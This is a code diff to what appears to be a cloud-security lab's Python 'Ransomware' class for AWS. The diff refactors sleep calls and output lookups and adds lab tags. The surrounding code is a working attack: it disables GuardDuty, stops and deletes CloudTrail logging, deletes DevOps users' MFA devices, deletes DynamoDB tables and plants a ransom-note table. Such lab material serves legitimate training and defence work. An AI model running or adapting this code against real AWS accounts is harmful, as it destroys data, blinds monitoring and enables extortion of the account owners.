@@ -2,9 +2,12 @@ import boto3
 import json
 import os
 import time
+
+import clock
 from DisableGD_CT import disable_guardduty, stop_cloudtrail_logging, delete_guardduty, delete_cloudtrail
 from MFA import delete_virtualMFA_device
-from Load_Pulumi_Outputs import get_infrastructure_output
+from Load_Pulumi_Outputs import infrastructure_outputs
+from lab_index import lab_tags
 
 
 ransom_message = """YOUR DATA HAS BEEN TAKEN.
@@ -51,7 +54,7 @@ class Ransomware:
 
         # AWS IAM propagation delay
         print(" Waiting for IAM propagation...")
-        time.sleep(5)  # Add a delay before using new credentials
+        clock.sleep(5, "IAM propagation")  # Add a delay before using new credentials
 
 
         """Initialize a boto3 session with given credentials"""
@@ -69,8 +72,8 @@ class Ransomware:
 
 
         # Dynamically fetching GuardDuty and CloudTrail details from infrastructure outputs 
-        self.guardduty_id = get_infrastructure_output("gd_detector_id")  
-        self.cloudtrail_name = get_infrastructure_output("cloudtrail_name") 
+        self.guardduty_id = infrastructure_outputs.get_str("gd_detector_id")
+        self.cloudtrail_name = infrastructure_outputs.get_str("cloudtrail_name")
 
 
 
@@ -83,7 +86,7 @@ class Ransomware:
         MFA Tampering DDOS as part of the larger vector.
         """
         self.devops_mfa_arns = {
-            username: get_infrastructure_output(f"{username}_mfa_arn")
+            username: infrastructure_outputs.get_optional(f"{username}_mfa_arn")
             for username in ["DevopsDeploy", "DevopsAutomation", "DevopsMonitor", "DevopsPipeline"]
         }
 
@@ -119,6 +122,10 @@ class Ransomware:
 
     def devops_team_MFA_DDOS(self):
         for username, mfa_arn in self.devops_mfa_arns.items():
+            if not mfa_arn:
+                # Stacks on the local backend have no DevOps MFA devices
+                print(f"No MFA device deployed for {username}, skipping...")
+                continue
             print(f"Initiating deletion of MFA for {username}...")
             delete_virtualMFA_device(self.session, mfa_arn)
 
@@ -384,7 +391,7 @@ class Ransomware:
                 while True:
                     try:
                         self.dynamodb_client.describe_table(TableName=table_name)
-                        time.sleep(5)  # Wait and retry
+                        clock.poll_sleep(5, f"waiting for {table_name} deletion")  # Wait and retry
                     except self.dynamodb_client.exceptions.ResourceNotFoundException:
                         print(f"[✔] Table {table_name} fully deleted.")
                         break
@@ -402,7 +409,9 @@ class Ransomware:
                     TableName=ransom_table_name,
                     KeySchema=[{"AttributeName": "ID", "KeyType": "HASH"}],
                     AttributeDefinitions=[{"AttributeName": "ID", "AttributeType": "S"}],
-                    BillingMode="PAY_PER_REQUEST"
+                    BillingMode="PAY_PER_REQUEST",
+                    Tags=[{"Key": key, "Value": value} for key, value in
+                          lab_tags(infrastructure_outputs.get_optional("lab_run_id", "unknown")).items()]
                 )
 
                 # Wait for the table to be fully created
@@ -414,7 +423,7 @@ class Ransomware:
                             break
                     except Exception:
                         pass
-                    time.sleep(5)
+                    clock.poll_sleep(5, f"waiting for {ransom_table_name} to become ACTIVE")
 
         def insert_ransom_note(self, ransom_table_name="too_late", ransom_message="Your data has been exfiltrated & deleted!"):
             """Step 4: Inserts ransom notes into the 'too_late' table"""